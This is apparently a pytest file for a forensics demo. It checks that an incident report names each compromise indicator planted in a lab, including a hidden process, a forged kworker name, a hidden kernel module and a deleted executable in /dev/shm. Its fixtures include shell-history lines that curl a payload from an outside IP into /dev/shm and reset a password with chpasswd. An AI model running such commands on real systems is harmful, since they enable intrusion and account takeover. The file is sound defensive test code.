"""The demo's own look at a report can fail: a fact that is not named is said to be missing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from forensics import demo
from forensics.errors import StageFailed
from forensics.tables import Column, Table

TRUTH = json.dumps(
    [
        {"fact": "deleted-executable", "process": ".usagectl", "path": "/dev/shm/.usagectl", "marker": "rc-00ff"},
        {"fact": "listening-socket", "process": "storewrk", "port": 23493},
        {"fact": "shell-history", "commands": ["curl -fso /dev/shm/x http://198.51.100.68/x", "echo 'a:b' | chpasswd"]},
        {"fact": "forged-name", "process": "kworker/1:2", "path": "/var/tmp/.0ac793/packfeed"},
        {"fact": "io-burst", "process": "statwrk", "file": "/var/lib/mailwrk/outbox-5f27.bin"},
        {"fact": "oom-kill", "victim": "usagewrk"},
        {"fact": "hidden-process", "process": "nodepipe", "path": "/usr/local/sbin/nodepipe"},
        {"fact": "hidden-module", "module": "mailguard"},
    ]
).encode()
WORDS = """.usagectl runs from /dev/shm/.usagectl with rc-00ff. storewrk listens on 23493.
curl -fso /dev/shm/x http://198.51.
100.68/x echo 'a:b' | chpasswd
kworker/1:2 is /var/tmp/.0ac793/packfeed. statwrk wrote /var/lib/mailwrk/outbox-5f27.bin. usagewrk was killed.
/usr/local/sbin/nodepipe is kept out of what ps lists. The kernel module mailguard hides."""


def figures(name: str, row: str, value: float | str) -> Table:
    return Table(name, name, (Column("name"), Column("value")), ((row, value),))


def tables(events: int = 9000, tests: int = 80) -> dict[str, Table]:
    made = (figures("block_io_totals", "events", events), figures("lynis_summary", "lynis_tests_done", str(tests)))
    return {one.name: one for one in made}


def test_a_report_that_names_all_is_accepted() -> None:
    demo.check(TRUTH, WORDS, tables())


@pytest.mark.parametrize("word", [".usagectl", "rc-00ff", "storewrk", "23493", "chpasswd"])
def test_a_fact_that_is_not_named_fails_the_demo(word: str) -> None:
    with pytest.raises(StageFailed) as raised:
        demo.check(TRUTH, WORDS.replace(word, ""), tables())
    assert word in raised.value.why


def test_a_fact_that_was_not_planted_fails_the_demo() -> None:
    for fact in demo.NAMED:
        truth = json.dumps([one for one in json.loads(TRUTH) if one["fact"] != fact]).encode()
        with pytest.raises(StageFailed) as raised:
            demo.check(truth, WORDS, tables())
        assert raised.value.why == f"{fact}: it was not planted, and so cannot be shown"


def test_a_fact_that_the_lab_could_not_plant_fails_the_demo_with_its_reason() -> None:
    kept = [one for one in json.loads(TRUTH) if one["fact"] != "hidden-module"]
    kept.append({"fact": "not-planted", "rule": "hidden-module", "why": "signed modules only"})
    with pytest.raises(StageFailed, match="signed modules only"):
        demo.check(json.dumps(kept).encode(), WORDS, tables())


def test_too_few_events_or_tests_fail_the_demo() -> None:
    for short in (tables(events=999), tables(tests=59), {}):
        with pytest.raises(StageFailed):
            demo.check(TRUTH, WORDS, short)


def test_every_fact_that_a_lab_plants_is_looked_for() -> None:
    from forensics.lab.recipe import FACTS  # noqa: PLC0415

    assert set(FACTS) == set(demo.NAMED)


def test_a_second_demo_has_the_next_number(tmp_path: Path) -> None:
    assert demo.next_number(tmp_path) == "DEMO-0001"
    (tmp_path / "cases" / "DEMO-0001").mkdir(parents=True)
    assert demo.next_number(tmp_path) == "DEMO-0002"
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "DEMO-0002.pdf").touch()
    assert demo.next_number(tmp_path) == "DEMO-0003"


def test_style_is_not_taken_for_words() -> None:
    assert demo.words_of("<style>storewrk</style><p>a &lt;b&gt;</p>").strip() == "a <b>"
